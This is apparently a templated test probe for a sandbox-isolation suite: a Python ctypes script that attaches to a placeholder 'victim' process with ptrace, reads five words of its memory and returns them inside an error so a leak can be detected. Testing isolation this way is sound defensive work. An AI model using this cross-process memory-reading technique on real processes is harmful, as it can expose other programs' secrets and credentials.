# tries: to trace another process and to read its memory word by word
# sign: leak
# outcome: error
import ctypes
import time


def get_net():
    libc = ctypes.CDLL(None)
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    attached = libc.ptrace(0x4206, @VICTIM@, None, None)
    libc.ptrace(0x4207, @VICTIM@, None, None)
    time.sleep(0.1)
    words = [libc.ptrace(2, @VICTIM@, @ADDRESS@ + 8 * n, None) for n in range(5)]
    libc.ptrace(17, @VICTIM@, None, None)
    text = b"".join((word & (2**64 - 1)).to_bytes(8, "little") for word in words)
    raise RuntimeError(f"{attached} {text!r}")
